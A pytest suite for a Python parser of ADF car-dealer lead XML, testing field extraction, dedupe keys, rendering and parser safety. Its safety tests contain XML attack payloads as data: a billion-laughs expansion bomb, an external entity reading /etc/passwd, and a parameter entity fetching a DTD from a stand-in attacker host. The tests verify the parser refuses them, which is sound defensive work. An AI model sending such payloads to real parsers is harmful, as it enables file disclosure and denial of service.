"""ADF parsing, safety, dedupe and rendering.

Plain pytest: no Django settings, no database.  The samples in adf_samples/
are shaped after what real providers send (mixed-case tags, missing wrappers,
vendor extensions, Windows-1252 bytes, SOAP envelopes, ...).
"""

from __future__ import annotations

import re
import socket
import subprocess
import sys
import time
import urllib.request
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from leads.adf import (
    AdfContact,
    AdfError,
    AdfLead,
    AdfPhone,
    AdfRefused,
    AdfVehicle,
    parse_adf,
    parse_adf_many,
    render_adf,
)

SAMPLES = Path(__file__).parent / "adf_samples"
REPO_ROOT = Path(__file__).resolve().parents[2]
EST = timezone(timedelta(hours=-5))


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def prospect_doc(body: str, contact: str | None = None) -> str:
    """A minimal valid document around `body` (prospect children)."""
    if contact is None:
        contact = '<name part="first">Jane</name><name part="last">Doe</name><email>jane@example.com</email>'
    return f"<adf><prospect>{body}<customer><contact>{contact}</contact></customer></prospect></adf>"


_STEP = re.compile(r"([a-z_]+)|\[(\d+)\]")


def dig(lead: AdfLead, path: str):
    """'contact.phones[1].type' -> value; 'extensions:vehicle/doors' -> extension."""
    if path.startswith("extensions:"):
        return lead.extensions.get(path.split(":", 1)[1], "<missing>")
    value = lead
    for name, index in _STEP.findall(path):
        value = getattr(value, name) if name else value[int(index)]
    return value


# --------------------------------------------------------------------------
# Messy real-world samples
# --------------------------------------------------------------------------

SAMPLE_EXPECTATIONS = [
    (
        "01_canonical_spec_example.xml",
        {
            "provider_name": "Cars.com",
            "provider_ref": "CC-20261124-0042",
            "vendor_name": "Buckeye Honda",
            "request_date": datetime(2026, 11, 24, 9, 15, tzinfo=EST),
            "contact.first_name": "Jane",
            "contact.last_name": "Doe",
            "contact.emails": ("Jane.Doe@Example.com",),
            "contact.phones": (AdfPhone("(614) 555-0134", "voice"), AdfPhone("614-555-0199", "cellphone")),
            "contact.street": "12 Elm Street, Apt 4B",
            "contact.city": "Columbus",
            "contact.region": "OH",
            "contact.postal_code": "43215",
            "contact.country": "US",
            "vehicles_of_interest[0].vin": "1HGCV1F34NA012345",
            "vehicles_of_interest[0].price_cents": 2399500,
            "vehicles_of_interest[0].odometer": 31250,
            "vehicles_of_interest[0].comments": "Is this still available?",
            "timeframe": "Within a week",
            "comments": "Please call after 5pm.\nTrading in my old car.",
            "extensions:vehicle/colorcombination/exteriorcolor": "Platinum White Pearl",
            "extensions:vendor/contact/name": "Internet Sales",
        },
    ),
    (
        "02_uppercase_tags_and_pi.xml",
        {
            "provider_ref": "AT-77-1932",
            "vendor_name": "Capital Toyota",
            "request_date": datetime(2026, 11, 24, 14, 2, 11),
            "contact.last_name": "O'NEIL",
            "vehicles_of_interest[0].status": "new",
            "vehicles_of_interest[0].trim": "XLE Premium",
            "vehicles_of_interest[0].price_cents": 3845000,
            "extensions:vehicle/price@type": "MSRP",
        },
    ),
    (
        "03_bare_prospect_no_declarations.xml",
        {
            "request_date": datetime(2026, 11, 24),
            "contact.first_name": "Luis",
            "contact.last_name": "Garcia",
            "provider_name": "",
            "vendor_name": "",
            "vehicles_of_interest[0].interest": "buy",
            "vehicles_of_interest[0].model": "F-150",
        },
    ),
    (
        "04_bom_and_leading_whitespace.xml",
        {
            "request_date": datetime(2026, 11, 24, 8, tzinfo=timezone.utc),
            "contact.first_name": "Siobhán",
            "contact.last_name": "Ní Bhriain",
            "contact.phones[0].type": "cellphone",
            "vehicles_of_interest[0].interest": "lease",
        },
    ),
    ("05_resend_status.xml", {"is_resend": True, "provider_ref": "TC-5531", "contact.full_name": "Amy Chen"}),
    (
        "06_trade_in_and_two_vehicles.xml",
        {
            "trade_ins[0].model": "Malibu",
            "trade_ins[0].price_cents": 650000,
            "trade_ins[0].odometer": 112000,
            "vehicles_of_interest[0].stock": "N2231",
            "vehicles_of_interest[1].interest": "test-drive",
            "extensions:vehicle[3]/condition": "fair",
        },
    ),
    ("07_full_name_with_middle_initial.xml", {"contact.first_name": "Jane", "contact.last_name": "Doe", "contact.full_name": "Jane Q Doe"}),
    (
        "08_full_name_last_comma_first.xml",
        {
            "contact.first_name": "Anneke",
            "contact.last_name": "van der Berg",
            "contact.emails": ("anneke@example.nl",),
            "extensions:customer/contact/email[2]": "n/a",
        },
    ),
    (
        "09_odd_phone_labels.xml",
        {
            "contact.phones": (
                AdfPhone("(555) 010-2000", "voice"),
                AdfPhone("555.010.2001", "cellphone"),
                AdfPhone("555-010-2002", "fax"),
                AdfPhone("555 010 2003", "voice"),
            ),
            "extensions:customer/contact/phone[5]": "N/A",
        },
    ),
    (
        "10_price_and_odometer_formats.xml",
        {
            "request_date": datetime(2026, 11, 24, 9, 15),
            "vehicles_of_interest[0].price_cents": 4799550,
            "vehicles_of_interest[0].odometer": 45000,
            "contact.region": "QC",
            "contact.postal_code": "H2X 3K8",
            "extensions:vehicle/odometer@units": "km",
            "extensions:vehicle/price[2]@type": "msrp",
            "extensions:vehicle/price[3]": "Call for price",
        },
    ),
    (
        "11_vendor_extensions_everywhere.xml",
        {
            "provider_name": "DealerX",
            "vehicles_of_interest[0].status": "",
            "comments": "Wants to chat about lease deals.\nHas two dogs.",
            "extensions:leadtype": "Chat",
            "extensions:tracking/utm_source": "google",
            "extensions:vehicle/option[2]/optionname": "Tow package",
            "extensions:vehicle@status": "demo",
            "extensions:customer/creditscore@band": "good",
            "extensions:id@source": "DealerX Chat",
        },
    ),
    (
        "12_no_vendor_no_provider_id_source_only.xml",
        {
            "provider_name": "Edmunds",
            "provider_ref": "ED-4400917",
            "vendor_name": "",
            "contact.first_name": "Dale",
            "contact.last_name": "Earnshaw",
            "contact.full_name": "Mr. Dale Earnshaw Jr.",
            "timeframe": "between 2026-12-01 and 2026-12-15",
        },
    ),
    (
        "13_adf_pi_before_xml_declaration.xml",
        {
            "request_date": datetime(2026, 11, 24, 9, 15, tzinfo=EST),
            "trade_ins[0].interest": "trade-in",
            "trade_ins[0].odometer": 150000,
            "vehicles_of_interest[0].status": "used",
            "vehicles_of_interest[0].price_cents": 3100000,
        },
    ),
    (
        "14_windows1252_bytes_sent_as_utf8.xml",
        {"contact.first_name": "José", "contact.last_name": "Muñoz", "comments": "Café con leche – “quick” please"},
    ),
    (
        "15_sell_only_with_contact_under_customer.xml",
        {"vehicles_of_interest": (), "trade_ins[0].interest": "sell", "contact.emails": ("grace@example.com",), "provider_name": "Sell My Car Fast"},
    ),
    ("16_two_bare_prospects_then_signature.xml", {"provider_ref": "CG-1", "contact.full_name": "Ana Lima"}),
    (
        "17_default_namespace_and_soap_wrapper.xml",
        {"vendor_name": "Mile High GMC", "vehicles_of_interest[0].price_cents": 6124099, "contact.phones[0].type": "voice"},
    ),
]
SAMPLE_NAMES = [name for name, _ in SAMPLE_EXPECTATIONS]


def test_every_sample_file_is_covered_by_the_table():
    assert sorted(p.name for p in SAMPLES.glob("*.xml")) == sorted(SAMPLE_NAMES)


@pytest.mark.parametrize(("name", "expected"), SAMPLE_EXPECTATIONS, ids=SAMPLE_NAMES)
def test_messy_real_world_sample_is_read_into_the_expected_fields(name, expected):
    lead = parse_adf(sample(name))
    actual = {path: dig(lead, path) for path in expected}
    assert actual == expected


@pytest.mark.parametrize("name", SAMPLE_NAMES)
def test_every_sample_survives_a_render_and_parse_round_trip(name):
    for lead in parse_adf_many(sample(name)):
        assert parse_adf(render_adf(lead)) == lead


# --------------------------------------------------------------------------
# Individual behaviours
# --------------------------------------------------------------------------


def test_trade_in_vehicle_is_separated_from_vehicle_of_interest():
    lead = parse_adf(sample("06_trade_in_and_two_vehicles.xml"))
    assert [v.model for v in lead.vehicles_of_interest] == ["Equinox", "Trax"]
    assert [v.model for v in lead.trade_ins] == ["Malibu"]


def test_sell_interest_counts_as_a_trade_in():
    lead = parse_adf(prospect_doc('<vehicle interest="SELL"><make>Audi</make></vehicle><vehicle><make>BMW</make></vehicle>'))
    assert [v.make for v in lead.trade_ins] == ["Audi"]
    assert [v.make for v in lead.vehicles_of_interest] == ["BMW"]


@pytest.mark.parametrize(
    ("name_xml", "first", "last", "full"),
    [
        ("<name>Jane Q Doe</name>", "Jane", "Doe", "Jane Q Doe"),
        ('<name part="full">Doe, Jane</name>', "Jane", "Doe", "Jane Doe"),
        ('<name part="full">Ludwig van Beethoven</name>', "Ludwig", "van Beethoven", "Ludwig van Beethoven"),
        ('<name part="full">Dr. Ada Lovelace</name>', "Ada", "Lovelace", "Dr. Ada Lovelace"),
        ("<name>Cher</name>", "Cher", "", "Cher"),
        ('<name part="first">Mary</name><name part="middle">Ann</name><name part="last">Smith</name>', "Mary", "Smith", "Mary Ann Smith"),
        ('<name part="first">Jon</name><name part="full">Jonathan Smith</name>', "Jon", "Smith", "Jonathan Smith"),
    ],
)
def test_names_given_in_parts_or_in_full_are_split_sensibly(name_xml, first, last, full):
    contact = parse_adf(prospect_doc("", contact=name_xml + "<phone>555-010-9999</phone>")).contact
    assert (contact.first_name, contact.last_name, contact.full_name) == (first, last, full)


@pytest.mark.parametrize(
    ("label", "expected"),
    [(None, "voice"), ("voice", "voice"), ("Cell Phone", "cellphone"), ("MOBILE", "cellphone"), ("fax", "fax"), ("pager", "pager"), ("evening", "voice"), ("whatever", "voice")],
)
def test_phone_labels_are_mapped_onto_adf_phone_types(label, expected):
    attr = f' type="{label}"' if label is not None else ""
    contact = parse_adf(prospect_doc("", contact=f"<name>Al Bo</name><phone{attr}>555-010-9999</phone>")).contact
    assert contact.phones == (AdfPhone("555-010-9999", expected),)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-24T09:15:00-05:00", datetime(2026, 11, 24, 9, 15, tzinfo=EST)),
        ("2026-11-24T14:15:00Z", datetime(2026, 11, 24, 14, 15, tzinfo=timezone.utc)),
        ("2026-11-24T09:15:00", datetime(2026, 11, 24, 9, 15)),
        ("2026-11-24", datetime(2026, 11, 24)),
        ("11/24/2026 9:15 AM", datetime(2026, 11, 24, 9, 15)),
        ("sometime last week", None),
    ],
)
def test_request_date_is_aware_only_when_the_document_gives_an_offset(text, expected):
    lead = parse_adf(prospect_doc(f"<requestdate>{text}</requestdate>"))
    assert lead.request_date == expected
    if expected is not None:
        assert (lead.request_date.tzinfo is None) == (expected.tzinfo is None)


def test_unreadable_request_date_is_kept_in_extensions():
    lead = parse_adf(prospect_doc("<requestdate>sometime last week</requestdate>"))
    assert lead.extensions["requestdate"] == "sometime last week"


@pytest.mark.parametrize(
    ("price_xml", "cents"),
    [
        ('<price type="asking" currency="USD">23,995.00</price>', 2399500),
        ("<price>$23,995</price>", 2399500),
        ("<price>23995.5</price>", 2399550),
        ("<price>23.995,00 €</price>", 2399500),
        ("<price>Call for price</price>", None),
        ("<price>20000-25000</price>", None),
    ],
)
def test_price_text_is_converted_to_cents(price_xml, cents):
    lead = parse_adf(prospect_doc(f"<vehicle><make>Ford</make>{price_xml}</vehicle>"))
    assert lead.vehicles_of_interest[0].price_cents == cents


@pytest.mark.parametrize(
    ("odometer_xml", "value", "units"),
    [
        ('<odometer units="mi">45000</odometer>', 45000, "mi"),
        ("<odometer>45,000 miles</odometer>", 45000, "mi"),
        ("<odometer>72 000 km</odometer>", 72000, "km"),
        ("<odometer>150k</odometer>", 150000, None),
    ],
)
def test_odometer_with_units_is_read_as_a_whole_number(odometer_xml, value, units):
    lead = parse_adf(prospect_doc(f"<vehicle><make>Ford</make>{odometer_xml}</vehicle>"))
    assert lead.vehicles_of_interest[0].odometer == value
    assert lead.extensions.get("vehicle/odometer@units") == units


def test_unknown_vendor_elements_are_kept_as_flattened_extensions():
    lead = parse_adf(sample("11_vendor_extensions_everywhere.xml"))
    assert lead.extensions["vehicle/finance/method"] == "lease"
    assert lead.extensions["vehicle/finance/balance@type"] == "downpayment"
    assert lead.extensions["customer/contact/preferredlanguage"] == "en"
    assert lead.extensions["vendor/id"] == "V-77"
    # Mapped values are not duplicated into extensions.
    assert not any(key.endswith(("make", "model", "vendorname")) for key in lead.extensions)


def test_prospect_id_gives_provider_ref_and_stands_in_for_a_missing_provider():
    lead = parse_adf(sample("12_no_vendor_no_provider_id_source_only.xml"))
    assert (lead.provider_name, lead.provider_ref) == ("Edmunds", "ED-4400917")


def test_resend_status_on_the_prospect_is_flagged():
    assert parse_adf(sample("05_resend_status.xml")).is_resend is True
    assert parse_adf(sample("01_canonical_spec_example.xml")).is_resend is False


def test_parse_adf_returns_the_first_of_several_prospects():
    assert parse_adf(sample("16_two_bare_prospects_then_signature.xml")).provider_ref == "CG-1"


def test_parse_adf_many_returns_every_prospect_in_document_order():
    leads = parse_adf_many(sample("16_two_bare_prospects_then_signature.xml"))
    assert [lead.provider_ref for lead in leads] == ["CG-1", "CG-2"]
    assert leads[1].contact.phones == (AdfPhone("555-010-4000", "voice"),)


def test_parse_adf_many_names_the_prospect_that_has_no_contact():
    doc = "<adf>" + prospect_doc("")[5:-6] + "<prospect><customer><comments>hi</comments></customer></prospect></adf>"
    with pytest.raises(AdfError) as caught:
        parse_adf_many(doc)
    assert caught.value.reason.startswith("prospect 2 of 2: no customer contact")


def test_str_input_is_accepted_as_well_as_bytes():
    text = sample("01_canonical_spec_example.xml").decode("utf-8")
    assert parse_adf(text) == parse_adf(text.encode("utf-8"))


def test_module_does_not_import_django():
    code = "import sys, leads.adf; sys.exit(any(m == 'django' or m.startswith('django.') for m in sys.modules))"
    assert subprocess.run([sys.executable, "-c", code], cwd=REPO_ROOT).returncode == 0


# --------------------------------------------------------------------------
# Safety
# --------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<adf><prospect><customer><contact><name>&lol9;</name><email>a@example.com</email></contact></customer></prospect></adf>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE adf [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>
<adf><prospect><customer><contact><name>&x;</name><email>a@example.com</email></contact></customer></prospect></adf>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE adf SYSTEM "http://adf.example.invalid/adf.dtd">
<adf><prospect><customer><contact><name>Jane Doe</name><email>a@example.com</email></contact></customer></prospect></adf>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE adf [ <!ENTITY % remote SYSTEM "http://attacker.example.invalid/x.dtd"> %remote; ]>
<adf/>
"""

# The DOCTYPE can hide after leading whitespace and a BOM too.
BOM_THEN_DOCTYPE = "\ufeff\n  <!DOCTYPE adf [<!ENTITY a 'b'>]><adf><prospect/></adf>"


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the parser tried to reach the network")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, BOM_THEN_DOCTYPE],
    ids=["billion_laughs", "external_entity_file", "external_dtd", "parameter_entity", "bom_then_doctype"],
)
@pytest.mark.parametrize("as_bytes", [False, True], ids=["str", "bytes"])
def test_unsafe_document_is_refused_quickly_without_reading_files_or_network(doc, as_bytes, no_network):
    raw = doc.encode("utf-8") if as_bytes else doc
    started = time.perf_counter()
    with pytest.raises(AdfRefused) as caught:
        parse_adf(raw)
    # Not a speed target (the machine may be busy): an expanded billion laughs takes minutes and gigabytes.
    assert time.perf_counter() - started < 5
    assert caught.value.reason.startswith("refused")
    assert "root:" not in caught.value.reason


def test_refusal_is_also_an_adf_error_for_callers_that_catch_only_that():
    with pytest.raises(AdfError):
        parse_adf(BILLION_LAUGHS)


def test_undeclared_entity_reference_is_an_ordinary_error_not_an_expansion():
    with pytest.raises(AdfError) as caught:
        parse_adf(prospect_doc("<comments>&nbsp;</comments>"))
    assert not isinstance(caught.value, AdfRefused)
    assert "line 1" in caught.value.reason


# --------------------------------------------------------------------------
# Unreadable documents
# --------------------------------------------------------------------------


def test_malformed_xml_reason_names_the_line():
    doc = "<adf>\n  <prospect>\n    <customer></prospect>\n</adf>\n"
    with pytest.raises(AdfError) as caught:
        parse_adf(doc)
    assert caught.value.reason.startswith("XML is not well-formed at line 3")
    assert "mismatched tag" in caught.value.reason


def test_malformed_xml_line_counts_the_blank_lines_that_were_trimmed():
    doc = b"\xef\xbb\xbf\r\n\r\n<adf>\n<prospect>\n<oops></prospect></adf>"
    with pytest.raises(AdfError) as caught:
        parse_adf(doc)
    assert "at line 5" in caught.value.reason


@pytest.mark.parametrize("raw", [b"", "", "   \n\t", b"\xef\xbb\xbf", "\ufeff  "], ids=["bytes", "str", "whitespace", "bom", "bom_whitespace"])
def test_empty_input_is_rejected(raw):
    with pytest.raises(AdfError) as caught:
        parse_adf(raw)
    assert caught.value.reason == "the document is empty"


def test_input_that_is_not_text_is_a_type_error():
    with pytest.raises(TypeError):
        parse_adf(None)  # type: ignore[arg-type]


def test_document_without_prospect_is_rejected():
    with pytest.raises(AdfError) as caught:
        parse_adf("<adf><customer/></adf>")
    assert caught.value.reason == "no <prospect> element found"


@pytest.mark.parametrize(
    "customer",
    [
        "",
        "<customer><comments>Call me</comments></customer>",
        "<customer><contact><name>Jane Doe</name></contact></customer>",
        "<customer><contact><email>jane@example.com</email><phone>555-010-1111</phone></contact></customer>",
        "<customer><contact><name>Jane Doe</name><email>none</email><phone>n/a</phone></contact></customer>",
    ],
    ids=["no_customer", "comments_only", "name_only", "no_name", "junk_channels"],
)
def test_document_without_a_usable_customer_contact_is_rejected(customer):
    with pytest.raises(AdfError) as caught:
        parse_adf(f"<adf><prospect><vehicle><make>Ford</make></vehicle>{customer}</prospect></adf>")
    assert caught.value.reason == "no customer contact: need a name and a phone or email"


# --------------------------------------------------------------------------
# Dedupe
# --------------------------------------------------------------------------

NO_REF_LEAD = """<?xml version="1.0"?>
<?adf version="1.0"?>
<adf>
  <prospect status="new">
    <requestdate>2026-11-24T09:15:00-05:00</requestdate>
    <vehicle interest="buy" status="used"><year>2022</year><make>Honda</make><model>Accord</model><vin>1HGCV1F34NA012345</vin></vehicle>
    <customer>
      <contact>
        <name part="first">Jane</name><name part="last">Doe</name>
        <email>jane@example.com</email>
        <phone>(614) 555-0134</phone>
      </contact>
    </customer>
  </prospect>
</adf>
"""

# Same lead, as resent by the provider: compact, re-cased, reformatted values.
NO_REF_LEAD_RESENT = (
    '<ADF><PROSPECT status="resend"><requestdate> 2026-11-24T14:15:00Z </requestdate>'
    '<vehicle><year>2022</year><make>HONDA</make><model>accord</model><vin> 1hgcv1f34na012345 </vin></vehicle>'
    "<customer><contact><name>  Jane   Doe </name><email> JANE@example.com</email>"
    "<phone>+1 614 555 0134</phone></contact><comments>resent</comments></customer></PROSPECT></ADF>"
)


def test_same_lead_resent_with_different_whitespace_has_the_same_dedupe_key():
    original, resent = parse_adf(NO_REF_LEAD), parse_adf(NO_REF_LEAD_RESENT)
    assert resent.is_resend and not original.is_resend
    assert original.dedupe_key == resent.dedupe_key
    assert original.dedupe_key.startswith("adf:sha256:")


def test_same_provider_lead_arriving_by_mail_and_http_has_the_same_dedupe_key():
    by_http = parse_adf(sample("05_resend_status.xml"))
    by_mail = parse_adf(sample("05_resend_status.xml").decode().replace("\n", "\r\n").replace("  ", "\t"))
    assert by_http.dedupe_key == by_mail.dedupe_key == "adf:truecar:TC-5531"


def test_provider_ref_makes_the_dedupe_key_independent_of_lead_contents():
    first = parse_adf(prospect_doc('<id source="Cars.com">X1</id><vehicle><make>Ford</make></vehicle>'))
    edited = parse_adf(prospect_doc('<id source="Cars.com">X1</id><vehicle><make>Kia</make></vehicle>'))
    assert first.dedupe_key == edited.dedupe_key


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("jane@example.com", "john@example.com"),
        ("(614) 555-0134", "(614) 555-0135"),
        ("1HGCV1F34NA012345", "1HGCV1F34NA099999"),
        ("2026-11-24T09:15:00", "2026-11-25T09:15:00"),
        ('<requestdate>', '<id source="Cars.com">X1</id><requestdate>'),
    ],
    ids=["email", "phone", "vin", "request_date", "provider_ref"],
)
def test_different_leads_have_different_dedupe_keys(old, new):
    assert old in NO_REF_LEAD
    assert parse_adf(NO_REF_LEAD).dedupe_key != parse_adf(NO_REF_LEAD.replace(old, new)).dedupe_key


def test_same_ref_from_different_providers_has_different_dedupe_keys():
    a = parse_adf(prospect_doc('<id source="Cars.com">42</id>'))
    b = parse_adf(prospect_doc('<id source="Autotrader">42</id>'))
    assert a.dedupe_key != b.dedupe_key


def test_dedupe_key_fits_the_lead_model_column_even_for_long_ids():
    lead = AdfLead(provider_name="P" * 200, provider_ref="R" * 200, contact=AdfContact(full_name="X", emails=("x@example.com",)))
    assert len(lead.dedupe_key) <= 128
    assert lead.dedupe_key != AdfLead(provider_name="P" * 200, provider_ref="R" * 199).dedupe_key


# --------------------------------------------------------------------------
# Rendering
# --------------------------------------------------------------------------

HAND_BUILT = AdfLead(
    request_date=datetime(2026, 11, 24, 9, 15, 30, tzinfo=EST),
    is_resend=True,
    provider_name='Smith & Sons "Leads" <Ltd>',
    provider_ref="A&B<1>",
    vendor_name="Ünïcødé Motors 🚗",
    contact=AdfContact(
        first_name="Zoë",
        last_name="O'Brien-Smith",
        full_name="Zoë A. O'Brien-Smith",
        emails=("zoe+cars@example.com", "z@example.org"),
        phones=(AdfPhone("+44 20 7946 0018", "voice"), AdfPhone("07700 900123", "cellphone")),
        street="1 Main St, Flat 2",
        city="London",
        region="LDN",
        postal_code="SW1A 1AA",
        country="GB",
    ),
    vehicles_of_interest=(
        AdfVehicle(interest="lease", status="new", year=2027, make="Mini", model="Cooper", trim="S", stock="M1", price_cents=3299999, comments="Needs <b>tow</b> hitch ]]> & more"),
    ),
    trade_ins=(AdfVehicle(interest="trade-in", status="used", year=2015, make="Ford", model="Fiesta", vin="WF0DXXGAKDFA12345", odometer=98000, price_cents=150000),),
    comments="Line one\nLine two with <tags> & ampersands",
    timeframe="Within 2 weeks",
    extensions={"vehicle[1]/colorcombination/exteriorcolor": "Red & White", "leadtype": "Web <form>", "@channel": "web"},
)


def test_render_produces_canonical_adf_declarations():
    xml = render_adf(HAND_BUILT)
    assert xml.startswith(b'<?xml version="1.0"?>\n<?adf version="1.0"?>\n<adf>')
    assert b"&amp;" in xml and b"&lt;tags&gt;" in xml


def test_hand_built_lead_with_markup_in_values_round_trips():
    assert parse_adf(render_adf(HAND_BUILT)) == HAND_BUILT


def test_rendered_extensions_go_back_where_they_came_from():
    xml = render_adf(parse_adf(sample("11_vendor_extensions_everywhere.xml"))).decode()
    assert re.search(r"<finance>\s*<method>lease</method>", xml)
    assert '<vehicle interest="buy" status="demo">' in xml


def test_rendering_drops_characters_xml_cannot_carry():
    lead = AdfLead(contact=AdfContact(full_name="Bad\x0bName", first_name="Bad\x0bName", phones=(AdfPhone("555-010-1234"),)))
    assert parse_adf(render_adf(lead)).contact.full_name == "BadName"


def test_extension_key_that_is_not_a_tag_path_is_refused_by_render():
    with pytest.raises(ValueError):
        render_adf(AdfLead(extensions={"not a/tag path!": "x"}))


def test_absurdly_deep_nesting_is_rejected_quickly_instead_of_crashing():
    doc = prospect_doc("<x>" * 100_000 + "</x>" * 100_000)
    started = time.perf_counter()
    with pytest.raises(AdfError) as caught:
        parse_adf(doc)
    assert time.perf_counter() - started < 5  # a crash or a recursive walk would not return at all
    assert "nested" in caught.value.reason
